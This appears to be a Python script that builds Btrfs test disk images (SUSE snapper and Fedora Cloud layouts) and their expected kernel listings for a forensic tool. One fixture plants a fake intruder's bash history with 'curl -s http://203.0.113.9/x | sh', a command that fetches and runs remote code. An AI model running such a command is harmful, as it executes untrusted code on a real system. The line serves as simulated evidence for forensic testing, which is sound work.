#!/usr/bin/env python3
"""Btrfs test images and their expected listings (run as root: loop mounts).

    python3 images/build-btrfs.py [NAME…]   rebuild images/btrfs-* (those named, else all)
                                            and images/expected/btrfs-*.tsv, volumes-btrfs.tsv
    python3 images/build-btrfs.py --check   no rebuild: the kernel reads the COMMITTED
                                            images again (read-only loop mounts) and
                                            must still list what the TSVs say

Needs: root, loop devices, a kernel with Btrfs (zstd, zlib and lzo), btrfs-progs
(mkfs.btrfs, btrfs), coreutils `stat` (birth times). --check needs root, loop
devices, the kernel's Btrfs and `btrfs` (the subvolume lists).

btrfs-rootdir: `mkfs.btrfs --rootdir` from a staging tree (mkfs writes every block:
no kernel involved), default profiles (SINGLE data, DUP metadata): plain logs, an
empty file, a sparse file, a symlink, a deep path, a 255-byte name, a non-UTF-8
name, a 2 MiB log, inline and regular extents, an xattr.

btrfs-subvol: written through the kernel: `mkfs.btrfs -m dup -d single`, a
subvolume `@` made the default (as SUSE does), subvolumes `var`, `home` and
`var/lib/machines` nested in it, a subvolume `@other` beside it (not reachable from
the default: never listed), logs written under `-o compress=zstd`, then remounted
`compress=zlib` and `compress=lzo`, so their extents (and small files' inline
items) are compressed with each; a preallocated range, a hole, a partial overwrite
of a compressed extent (items that use part of it), a hard link, xattrs.

btrfs-suse: SUSE's layout, written through the kernel. Subvolumes `@`, `@/.snapshots`,
`@/home` and `@/srv`; the root filesystem is snapper's first snapshot
`@/.snapshots/1/snapshot`, made the default; fstab mounts `@/home`, `@/srv` and
`@/.snapshots` with `subvol=`; snapper's info.xml beside each snapshot. Snapshot 2 is
a read-only snapshot of the root taken before the logs were changed: after it,
/var/log/messages grows, /var/log/warn is deleted, /root/.bash_history is emptied,
/var/log/zypp/history stays the same (the copy in the snapshot is identical).

btrfs-fedora: Fedora Cloud's layout. The top level is the default
subvolume; the root filesystem is subvolume `root`, mounted by fstab with
`subvol=root`, beside `home` and `var`, all written under `compress=zstd:1`.

Every tree the machine reads (the default subvolume, each one fstab mounts, each
snapshot) is listed by the kernel from a read-only mount of that subvolume
(`-o ro,subvol=…`): expected/<image>.tsv for the default one, expected/<image>.<view>.tsv
for the others, and expected/btrfs-views.tsv says which subvolume each view is, where
the machine mounted it and where its files belong in the grep folder.

The listings are never snapsift's: each image is mounted read-only by the kernel
(`mount -o ro,loop`, the default subvolume) and every directory, regular file and
symlink is listed as the kernel shows it: inode number, size, mode, owner, link
count, SHA-256, the four times (birth time by `stat -c %W/%w`), symlink target,
xattrs. Both images start as a file full of a stale pattern (mkfs -K: no discard),
so a reader that returns unwritten blocks shows it.
"""
import hashlib
import os
import random
import re
import shutil
import subprocess
import sys
import tempfile

here = os.path.dirname(os.path.abspath(__file__))
sys.path.insert(0, here)
import build as B  # noqa: E402  pct(), expect(), gzip_to(), pattern_file(), ts()

MiB = 1 << 20
HOST = b"sles15-btrfs"
NAMES = ["btrfs-rootdir", "btrfs-subvol", "btrfs-suse", "btrfs-fedora"]
SUSE_HOST = b"sles15-sap"
FEDORA_HOST = b"fedora-cloud"
SIZE = 128 * MiB
COLUMNS = ["offset", "path", "type", "inode", "size", "sha256", "mtime", "target", "expect",
           "mode", "uid", "gid", "nlink", "atime", "ctime", "btime", "xattrs"]
OS_RELEASE = b'NAME="SLES"\nVERSION="15-SP5"\nVERSION_ID="15.5"\nPRETTY_NAME="SUSE Linux Enterprise Server 15 SP5"\n' \
             b'ID="sles"\nID_LIKE="suse"\nCPE_NAME="cpe:/o:suse:sles:15:sp5"\n'
PASSWD = b"root:x:0:0:root:/root:/bin/bash\nsapadm:x:1001:100:SAP admin:/home/sapadm:/bin/bash\n"
HIST = b"zypper patch\ntail -f /var/log/messages\nsnapper list\nbtrfs filesystem usage /\nexit\n"


def run(*cmd, ok=(0,)):
    p = subprocess.run([os.fsdecode(c) if isinstance(c, bytes) else str(c) for c in cmd],
                       stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    if p.returncode not in ok:
        sys.exit("command failed (%d): %s\n%s%s" % (p.returncode, " ".join(map(str, cmd)),
                                                    p.stdout.decode(errors="replace")[-3000:],
                                                    p.stderr.decode(errors="replace")[-3000:]))
    return p.stdout.decode(errors="replace")


def ns_of(y, mo, d, h=0, mi=0, s=0, ns=0):
    return B.ts(y, mo, d, h, mi, s)[0] * 10**9 + ns


def syslog(rng, n, tag):
    progs = ["sshd[812]", "systemd[1]", "kernel", "sapstartsrv[2231]", "snapperd[77]", "wicked[900]"]
    msgs = ["Accepted publickey for sapadm from 203.0.113.%d port %d ssh2", "Started Session %d of user root %d.",
            "BTRFS info (device nvme0n1p3): scrub: finished on devid %d with status: %d",
            "Starting instance %d of SAP system HA%d", "Created snapshot %d (pre %d)", "eth0: link up %d %d"]
    out = []
    for i in range(n):
        m = rng.choice(msgs) % (rng.randrange(1, 255), rng.randrange(1024, 65535))
        out.append("2024-05-%02dT%02d:%02d:%02d.%06d+00:00 %s %s %s: %s\n" % (
            1 + i // 20000, i // 800 % 24, i // 14 % 60, i % 60, (i * 7919) % 1000000, HOST.decode(), tag,
            rng.choice(progs), m))
    return "".join(out).encode()


def write(root, rel, data, mtime_ns):
    p = os.path.join(os.fsencode(root), rel.lstrip(b"/"))
    os.makedirs(os.path.dirname(p), exist_ok=True)
    with open(p, "wb") as f:
        f.write(data)
    os.utime(p, ns=(mtime_ns, mtime_ns))
    return p


def symlink(root, rel, target, mtime_ns):
    p = os.path.join(os.fsencode(root), rel.lstrip(b"/"))
    os.makedirs(os.path.dirname(p), exist_ok=True)
    os.symlink(target, p)
    os.utime(p, ns=(mtime_ns, mtime_ns), follow_symlinks=False)


def common_tree(m, t, rng):
    write(m, b"/etc/hostname", HOST + b"\n", t + 1)
    write(m, b"/etc/os-release", OS_RELEASE, t + 2)
    write(m, b"/etc/passwd", PASSWD, t + 3)
    symlink(m, b"/etc/localtime", b"/usr/share/zoneinfo/UTC", t + 4)
    write(m, b"/root/.bash_history", HIST, t + 5)


# --- btrfs-rootdir: mkfs.btrfs --rootdir --------------------------------------------------

def stage_rootdir(stage):
    rng = random.Random(20)
    t = ns_of(2024, 5, 2, 9, 0, 0, 111111111)
    common_tree(stage, t, rng)
    write(stage, b"/var/log/messages", syslog(rng, 16000, "rootdir"), t + 10)   # ~2 MiB: regular extents
    write(stage, b"/var/log/warn", syslog(rng, 10, "warn"), t + 11)            # < 2 KiB: inline
    write(stage, b"/var/log/empty.log", b"", t + 12)
    p = write(stage, b"/var/log/zypper.log", syslog(rng, 300, "zypper"), t + 13)
    os.setxattr(p, "user.snapsift", b"xattr on a btrfs file")
    # Sparse: a hole, 5 bytes at 1 MiB, a hole to 3 MiB.
    p = os.path.join(os.fsencode(stage), b"var/log/sparse.log")
    with open(p, "wb") as f:
        f.seek(MiB)
        f.write(b"data\n")
        f.truncate(3 * MiB)
    os.utime(p, ns=(t + 14, t + 14))
    symlink(stage, b"/var/log/current", b"messages", t + 15)
    write(stage, b"/var/log/a/b/c/d/e/f/g/h/i/j/deep.log", b"deep\n", t + 16)
    write(stage, b"/var/log/" + b"L" * 251 + b".log", b"a 255-byte name\n", t + 17)
    write(stage, b"/var/log/caf\xc3\xa9-\xff.log", b"non-UTF-8 name\n", t + 18)
    write(stage, b"/var/log/old.log", b"from 1969\n", ns_of(1969, 7, 20, 20, 17, 40, 5))
    write(stage, b"/home/sapadm/.bash_history", HIST * 2, t + 19)
    write(stage, b"/usr/bin/true", bytes(range(256)) * 20, t + 20)


def build_rootdir(work):
    stage = os.path.join(work, "stage")
    shutil.rmtree(stage, ignore_errors=True)
    os.makedirs(stage)
    stage_rootdir(stage)
    img = os.path.join(work, "btrfs-rootdir.img")
    B.pattern_file(img, SIZE)
    run("mkfs.btrfs", "-q", "-f", "-K", "-L", "rootdir", "-U", "5eedb7f5-0000-4000-8000-000000000001",
        "--rootdir", stage, img)
    return img


# --- btrfs-subvol: the kernel writes, with compression ------------------------------------

def populate_subvol(m, rng):
    t = ns_of(2024, 5, 3, 10, 0, 0, 222222222)
    common_tree(m, t, rng)
    # As SUSE's fstab names subvolumes: the one beside @ is not followed yet (a warning).
    write(m, b"/etc/fstab", b"UUID=5eedb7f5-0000-4000-8000-000000000002 / btrfs defaults 0 0\n"
          b"UUID=5eedb7f5-0000-4000-8000-000000000002 /srv btrfs subvol=/@other 0 0\n", t + 8)
    run("btrfs", "subvolume", "create", os.path.join(m, "var"))
    run("btrfs", "subvolume", "create", os.path.join(m, "home"))
    os.makedirs(os.path.join(m, "var/lib"))
    run("btrfs", "subvolume", "create", os.path.join(m, "var/lib/machines"))
    write(m, b"/var/lib/machines/container/var/log/messages", syslog(rng, 200, "machine"), t + 6)
    write(m, b"/home/sapadm/.bash_history", HIST * 3, t + 7)
    # zstd (the mount option): a 1 MiB log (8 compressed extents of 128 KiB), a
    # small one (a compressed inline item).
    write(m, b"/var/log/messages", syslog(rng, 8000, "zstd"), t + 10)
    write(m, b"/var/log/zstd/small.log", syslog(rng, 12, "zstd-inline"), t + 11)
    # A partial overwrite inside a compressed extent: the file's items then use
    # parts of the old extent (offset > 0) around the new one.
    p = write(m, b"/var/log/zstd/overwritten.log", syslog(rng, 1500, "zstd-ow"), t + 12)
    os.sync()
    fd = os.open(p, os.O_WRONLY)
    os.pwrite(fd, b"OVERWRITTEN\n" * 341 + b"END!", 40000)
    os.fsync(fd)
    os.close(fd)
    os.utime(p, ns=(t + 13, t + 13))
    # Preallocated (unwritten) range between two written ones, and a hole.
    p = os.path.join(m, "var/log/prealloc.log")
    fd = os.open(p, os.O_CREAT | os.O_WRONLY, 0o640)
    os.pwrite(fd, b"A" * 65536, 0)
    os.fsync(fd)
    os.posix_fallocate(fd, 65536, 131072)
    os.pwrite(fd, b"C" * 4096, 196608)
    os.fsync(fd)
    os.close(fd)
    os.utime(p, ns=(t + 14, t + 14))
    p = os.path.join(m, "var/log/sparse.log")
    fd = os.open(p, os.O_CREAT | os.O_WRONLY, 0o644)
    os.pwrite(fd, b"after a 2 MiB hole\n", 2 * MiB)
    os.ftruncate(fd, 4 * MiB)
    os.close(fd)
    os.utime(p, ns=(t + 15, t + 15))
    os.link(os.path.join(m, "var/log/messages"), os.path.join(m, "var/log/messages.hardlink"))
    symlink(m, b"/var/log/current", b"messages", t + 16)
    os.setxattr(os.path.join(m, "var/log/messages"), "user.origin", b"zstd")
    os.setxattr(os.path.join(m, "var/log/messages"), "user.second", b"x" * 300)
    os.sync()
    return t


def build_subvol(work):
    img = os.path.join(work, "btrfs-subvol.img")
    B.pattern_file(img, SIZE)
    run("mkfs.btrfs", "-q", "-f", "-K", "-m", "dup", "-d", "single", "-L", "sapbtrfs",
        "-U", "5eedb7f5-0000-4000-8000-000000000002", img)
    m = os.path.join(work, "mnt")
    os.makedirs(m, exist_ok=True)
    rng = random.Random(21)
    run("mount", "-o", "loop", img, m)
    try:
        run("btrfs", "subvolume", "create", os.path.join(m, "@"))
        run("btrfs", "subvolume", "create", os.path.join(m, "@other"))
        write(m, b"/@other/var/log/hidden.log", b"not in the default subvolume\n", ns_of(2024, 5, 3))
        sid = run("btrfs", "subvolume", "show", os.path.join(m, "@"))
        sid = next(l.split(":")[1].strip() for l in sid.splitlines() if l.strip().startswith("Subvolume ID"))
        run("btrfs", "subvolume", "set-default", sid, m)
    finally:
        run("umount", m)
    run("mount", "-o", "loop,compress=zstd", img, m)
    try:
        t = populate_subvol(m, rng)
        run("mount", "-o", "remount,compress=zlib", m)
        write(m, b"/var/log/zlib/app.log", syslog(rng, 3000, "zlib"), t + 20)
        write(m, b"/var/log/zlib/small.log", syslog(rng, 12, "zlib-inline"), t + 21)
        run("mount", "-o", "remount,compress=lzo", m)
        write(m, b"/var/log/lzo/app.log", syslog(rng, 3000, "lzo"), t + 22)
        write(m, b"/var/log/lzo/small.log", syslog(rng, 12, "lzo-inline"), t + 23)
        os.sync()
    finally:
        run("umount", m)
    return img


# --- btrfs-suse: SUSE's snapper layout -------------------------------------------------------

SUSE_UUID = "5eedb7f5-0000-4000-8000-000000000003"
SUSE_FSTAB = ("UUID=%s / btrfs defaults 0 0\n"
              "UUID=%s /home btrfs subvol=/@/home 0 0\n"
              "UUID=%s /srv btrfs subvol=/@/srv 0 0\n"
              "UUID=%s /.snapshots btrfs subvol=/@/.snapshots 0 0\n" % ((SUSE_UUID,) * 4)).encode()
SNAPPER_INFO = ('<?xml version="1.0"?>\n<snapshot>\n  <type>%s</type>\n  <num>%d</num>\n'
                '  <date>%s</date>\n  <description>%s</description>\n</snapshot>\n')


def subvol_id(path):
    out = run("btrfs", "subvolume", "show", path)
    return next(l.split(":")[1].strip() for l in out.splitlines() if l.strip().startswith("Subvolume ID"))


def created_compact(path):
    """The snapshot's creation time as snapsift names its folder (20240501T080000Z), from
    `btrfs subvolume show` (TZ=UTC)."""
    out = run("btrfs", "subvolume", "show", path)
    t = next(l.split(":", 1)[1].strip() for l in out.splitlines() if l.strip().startswith("Creation time"))
    day, clock = t.split(" ")[:2]
    return day.replace("-", "") + "T" + clock.replace(":", "") + "Z"


def fresh(work, name, label, uuid, compress, subvols):
    """A zero-filled image, made Btrfs and mounted with `compress`, with `subvols` made."""
    img = os.path.join(work, name + ".img")
    with open(img, "wb") as f:
        f.truncate(SIZE)
    run("mkfs.btrfs", "-q", "-f", "-L", label, "-U", uuid, img)
    m = os.path.join(work, "mnt")
    os.makedirs(m, exist_ok=True)
    run("mount", "-o", "loop,compress=" + compress, img, m)
    for sv in subvols:
        run("btrfs", "subvolume", "create", os.path.join(m, sv))
    return img, m


def build_suse(work):
    img, m = fresh(work, "btrfs-suse", "suse", SUSE_UUID, "zstd", ["@", "@/.snapshots", "@/home", "@/srv"])
    rng = random.Random(22)
    t = ns_of(2024, 5, 4, 7, 0, 0, 333333333)
    views = {}
    try:
        os.makedirs(os.path.join(m, "@/.snapshots/1"))
        root = os.path.join(m, "@/.snapshots/1/snapshot")
        run("btrfs", "subvolume", "create", root)
        write(m, b"/@/.snapshots/1/info.xml", (SNAPPER_INFO % ("single", 1, "2024-05-04 07:00:00", "first root filesystem")).encode(), t)
        write(root, b"/etc/hostname", SUSE_HOST + b"\n", t + 1)
        write(root, b"/etc/os-release", OS_RELEASE, t + 2)
        write(root, b"/etc/passwd", PASSWD, t + 3)
        write(root, b"/etc/fstab", SUSE_FSTAB, t + 4)
        write(root, b"/root/.bash_history", HIST, t + 5)
        write(root, b"/var/log/messages", syslog(rng, 600, "before"), t + 10)
        write(root, b"/var/log/warn", syslog(rng, 30, "warn"), t + 11)
        write(root, b"/var/log/zypp/history", syslog(rng, 60, "zypp"), t + 12)
        write(m, b"/@/home/sapadm/.bash_history", HIST * 2, t + 13)
        write(m, b"/@/srv/sap/logs/dev_w0.log", syslog(rng, 100, "sap"), t + 14)
        run("btrfs", "subvolume", "set-default", subvol_id(root), m)
        os.sync()
        # snapper's snapshot 2 of the root (read-only), before the intruder.
        os.makedirs(os.path.join(m, "@/.snapshots/2"))
        snap = os.path.join(m, "@/.snapshots/2/snapshot")
        run("btrfs", "subvolume", "snapshot", "-r", root, snap)
        write(m, b"/@/.snapshots/2/info.xml", (SNAPPER_INFO % ("single", 2, "2024-05-05 03:00:00", "timeline")).encode(), t + 20)
        views["snapshot-2"] = created_compact(snap)
        # After the snapshot: the log grows, one is deleted, the history emptied.
        with open(os.path.join(root, "var/log/messages"), "ab") as f:
            f.write(syslog(rng, 80, "after"))
        os.utime(os.path.join(root, "var/log/messages"), ns=(t + 30, t + 30))
        os.unlink(os.path.join(root, "var/log/warn"))
        write(root, b"/root/.bash_history", b"", t + 31)
        os.sync()
    finally:
        run("umount", m)
    return img, [
        ("btrfs-suse", "", "", "/", "", "root"),
        ("btrfs-suse", "home", "@/home", "/home", "home", "mount"),
        ("btrfs-suse", "srv", "@/srv", "/srv", "srv", "mount"),
        ("btrfs-suse", "snapshot-2", "@/.snapshots/2/snapshot", "/", "_snapshots/2-" + views["snapshot-2"], "snapshot"),
    ]


# --- btrfs-fedora: Fedora Cloud's layout ----------------------------------------------------

FEDORA_UUID = "5eedb7f5-0000-4000-8000-000000000004"
FEDORA_FSTAB = ("UUID=%s / btrfs compress=zstd:1,defaults,subvol=root 0 1\n"
                "UUID=%s /home btrfs compress=zstd:1,subvol=home 0 0\n"
                "UUID=%s /var btrfs compress=zstd:1,subvol=var 0 0\n" % ((FEDORA_UUID,) * 3)).encode()


def build_fedora(work):
    img, m = fresh(work, "btrfs-fedora", "fedora", FEDORA_UUID, "zstd:1", ["root", "home", "var"])
    rng = random.Random(23)
    t = ns_of(2024, 5, 6, 12, 0, 0, 444444444)
    try:
        write(m, b"/root/etc/hostname", FEDORA_HOST + b"\n", t + 1)
        write(m, b"/root/etc/os-release", b'NAME="Fedora Linux"\nVERSION_ID=40\nPRETTY_NAME="Fedora Linux 40 (Cloud Edition)"\nID=fedora\n', t + 2)
        write(m, b"/root/etc/passwd", b"root:x:0:0:root:/root:/bin/bash\nfedora:x:1000:1000::/home/fedora:/bin/bash\n", t + 3)
        write(m, b"/root/etc/fstab", FEDORA_FSTAB, t + 4)
        write(m, b"/root/root/.bash_history", b"dnf upgrade -y\nbtrfs subvolume list /\n", t + 5)
        os.makedirs(os.path.join(m, "root/var"))
        os.makedirs(os.path.join(m, "root/home"))
        write(m, b"/var/log/secure", syslog(rng, 80, "secure"), t + 10)
        write(m, b"/var/log/dnf.log", syslog(rng, 200, "dnf"), t + 11)
        write(m, b"/var/log/cloud-init.log", syslog(rng, 40, "cloud-init"), t + 12)
        write(m, b"/home/fedora/.bash_history", b"sudo -i\ncurl -s http://203.0.113.9/x | sh\n", t + 13)
        os.sync()
    finally:
        run("umount", m)
    return img, [
        ("btrfs-fedora", "root", "root", "/", "", "root"),
        ("btrfs-fedora", "home", "home", "/home", "home", "mount"),
        ("btrfs-fedora", "var", "var", "/var", "var", "mount"),
    ]


SUBVOL_VIEWS = [
    ("btrfs-subvol", "", "", "/", "", "root"),
    ("btrfs-subvol", "srv", "@other", "/srv", "srv", "mount"),
]
ROOTDIR_VIEWS = [("btrfs-rootdir", "", "", "/", "", "root")]
VIEW_COLUMNS = ["image", "view", "subvol", "mount_point", "folder", "role"]


# --- listings ------------------------------------------------------------------------------

def birth(path):
    """(secs, ns) of the birth time through statx (coreutils stat)."""
    out = subprocess.run(["stat", "-c", "%W\t%w", "--", path], stdout=subprocess.PIPE, check=True).stdout.decode()
    secs, human = out.rstrip("\n").split("\t")
    if human == "-":
        return int(secs), 0
    frac = human.split(" ")[1].split(".")[1] if "." in human else "0"
    return int(secs), int(frac.ljust(9, "0"))


def stamp(secs_ns):
    s, ns = divmod(secs_ns, 10**9)
    return "%d.%09d" % (s, ns)


HOMES = {"btrfs-fedora": {b"/root", b"/home/fedora"}}


def expect(image, view, rel, typ):
    """Whether snapsift should extract a file of a view: the OS targets for the root and
    its snapshots; below a mount point, the OS targets there or the data-volume sweep."""
    homes = HOMES.get(image, {b"/root", b"/home/sapadm"})
    if view is None or view[5] in ("root", "snapshot"):
        return B.expect(rel, typ, True, homes)
    at = os.fsencode(view[3]).rstrip(b"/")
    if B.expect(at + rel, typ, True, homes) == "extract":
        return "extract"
    return B.expect(rel, typ, False, homes)


def listing(m, image, view=None):
    root = os.fsencode(m)
    rows = []
    for dirpath, dirnames, filenames in os.walk(root):
        for n in sorted(filenames) + sorted(dirnames):
            full = os.path.join(dirpath, n)
            rel = full[len(root):]
            st = os.lstat(full)
            sha, target = "", b""
            if os.path.islink(full):
                typ, target = "l", os.readlink(full)
            elif os.path.isdir(full):
                typ = "d"
            else:
                typ = "r"
                h = hashlib.sha256()
                with open(full, "rb") as f:
                    for chunk in iter(lambda: f.read(MiB), b""):
                        h.update(chunk)
                sha = h.hexdigest()
            xattrs = []
            if typ != "l":
                for x in sorted(os.listxattr(full)):
                    xattrs.append("%s=%s" % (x, os.getxattr(full, x).hex()))
            bs, bns = birth(full)
            rows.append(dict(
                offset="0", path=B.pct(rel), type=typ, inode=str(st.st_ino), size=str(st.st_size), sha256=sha,
                mtime=stamp(st.st_mtime_ns), target=B.pct(target),
                expect=expect(image, view, rel, typ),
                mode="%o" % st.st_mode, uid=str(st.st_uid), gid=str(st.st_gid), nlink=str(st.st_nlink),
                atime=stamp(st.st_atime_ns), ctime=stamp(st.st_ctime_ns), btime="%d.%09d" % (bs, bns),
                xattrs=";".join(xattrs)))
    rows.sort(key=lambda r: r["path"])
    return "\t".join(COLUMNS) + "\n" + "".join("\t".join(r[c] for c in COLUMNS) + "\n" for r in rows)


def kernel_listing(img, m, image, view=None):
    opts = "ro,loop" + (",subvol=" + view[2] if view and view[2] else "")
    run("mount", "-t", "btrfs", "-o", opts, img, m)
    try:
        return listing(m, image, view)
    finally:
        run("umount", m)


def subvolume_listing(img, m):
    """Every subvolume as `btrfs subvolume list` shows it (the kernel's ioctls on a
    read-only mount): id, path from the top level, UUID, parent UUID, read-only."""
    run("mount", "-t", "btrfs", "-o", "ro,loop", img, m)
    try:
        ro = {l.split()[1] for l in run("btrfs", "subvolume", "list", "-r", m).splitlines() if l.startswith("ID ")}
        rows = []
        for l in run("btrfs", "subvolume", "list", "-a", "-puq", m).splitlines():
            g = re.match(r"ID (\d+) .* parent_uuid (\S+) +uuid (\S+) path (.*)$", l)
            if not g:
                continue
            sid, parent, uuid, path = g.groups()
            path = path[len("<FS_TREE>/"):] if path.startswith("<FS_TREE>/") else path
            rows.append("%s\t%s\t%s\t%s\t%s\n" % (sid, path, uuid, "" if parent == "-" else parent, "yes" if sid in ro else "no"))
        return "id\tpath\tuuid\tparent_uuid\treadonly\n" + "".join(sorted(rows, key=lambda r: int(r.split("\t")[0])))
    finally:
        run("umount", m)


def volume_row(name, label, host=HOST):
    return "%s\t0\t%d\tbtrfs\t%s\tyes\t%s\tnone\t512" % (name, SIZE, label, host.decode())


def committed(name):
    return os.path.join(here, name + ".img.gz")


def unpack(name, work):
    img = os.path.join(work, name + ".img")
    with open(img, "wb") as out:
        out.write(subprocess.run(["gzip", "-dc", committed(name)], stdout=subprocess.PIPE, check=True).stdout)
    return img


def save(name, img):
    B.gzip_to(img, committed(name))
    print("%-22s %8d bytes" % (os.path.basename(committed(name)), os.path.getsize(committed(name))))


def build(name, work):
    if name == "btrfs-rootdir":
        return build_rootdir(work), ROOTDIR_VIEWS
    if name == "btrfs-subvol":
        return build_subvol(work), SUBVOL_VIEWS
    if name == "btrfs-suse":
        return build_suse(work)
    return build_fedora(work)


def tsv_of(view):
    return os.path.join(here, "expected", view[0] + (".%s" % view[1] if view[2] else "") + ".tsv")


def read_views():
    rows = [l.rstrip("\n").split("\t") for l in open(os.path.join(here, "expected", "btrfs-views.tsv"))][1:]
    return [tuple(r) for r in rows]


def main():
    args = [a for a in sys.argv[1:] if not a.startswith("--")]
    check = "--check" in sys.argv[1:]
    if os.geteuid() != 0:
        print("build-btrfs.py: skipped: needs root (loop mounts)")
        sys.exit(0 if check else 2)
    if "btrfs" not in open("/proc/filesystems").read():
        subprocess.run(["modprobe", "btrfs"], stderr=subprocess.DEVNULL)
    tools = ["mount", "umount", "losetup", "stat", "btrfs"] + ([] if check else ["mkfs.btrfs"])
    missing = [t for t in tools if not shutil.which(t)]
    if missing or "btrfs" not in open("/proc/filesystems").read():
        print("build-btrfs.py: skipped: missing %s" % (", ".join(missing) or "kernel Btrfs"))
        sys.exit(0 if check else 2)
    os.environ["TZ"] = "UTC"
    work = tempfile.mkdtemp(prefix="snapsift-btrfs-", dir="/var/tmp")
    m = os.path.join(work, "mnt")
    os.makedirs(m)
    bad = 0
    # Without --check: rebuild the images named (all by default); the views of the
    # others are listed again from their committed images.
    views = read_views() if os.path.exists(os.path.join(here, "expected", "btrfs-views.tsv")) else []
    try:
        for name in NAMES:
            if check or (args and name not in args):
                img = unpack(name, work)
                fixed = {"btrfs-rootdir": ROOTDIR_VIEWS, "btrfs-subvol": SUBVOL_VIEWS}.get(name, [])
                mine = [v for v in views if v[0] == name] or fixed
                views = [v for v in views if v[0] != name] + mine
            else:
                img, mine = build(name, work)
                views = [v for v in views if v[0] != name] + mine
            default = (name, "", "", "/", "", "root")
            for view in [None] + [v for v in mine if v[2]] + ["subvolumes"]:
                if view == "subvolumes":
                    tsv = os.path.join(here, "expected", name + ".subvolumes.tsv")
                    got = subvolume_listing(img, m)
                else:
                    tsv = tsv_of(view or default)
                    got = kernel_listing(img, m, name, view)
                if not check:
                    with open(tsv, "w") as f:
                        f.write(got)
                elif got != open(tsv).read():
                    bad += 1
                    print("%s: the kernel's listing differs from expected/%s" % (name, os.path.basename(tsv)))
                    with open(os.path.join(work, "got.tsv"), "w") as f:
                        f.write(got)
                    subprocess.run(["diff", tsv, os.path.join(work, "got.tsv")])
                else:
                    print("%s: the kernel lists what expected/%s says" % (name, os.path.basename(tsv)))
            if not check and (not args or name in args):
                save(name, img)
            os.unlink(img)
        if not check:
            views.sort(key=lambda v: (NAMES.index(v[0]), v[1]))
            with open(os.path.join(here, "expected", "btrfs-views.tsv"), "w") as f:
                f.write("\t".join(VIEW_COLUMNS) + "\n" + "".join("\t".join(v) + "\n" for v in views))
            header = "image\toffset\tsize\tfstype\tlabel\tos_root\thostname\tptable\tsector_size"
            with open(os.path.join(here, "expected", "volumes-btrfs.tsv"), "w") as f:
                f.write("\n".join([header, volume_row("btrfs-rootdir", "rootdir"), volume_row("btrfs-subvol", "sapbtrfs"),
                                   volume_row("btrfs-suse", "suse", SUSE_HOST), volume_row("btrfs-fedora", "fedora", FEDORA_HOST)]) + "\n")
    finally:
        subprocess.run(["umount", m], stderr=subprocess.DEVNULL)
        shutil.rmtree(work, ignore_errors=True)
    sys.exit(1 if bad else 0)


main()
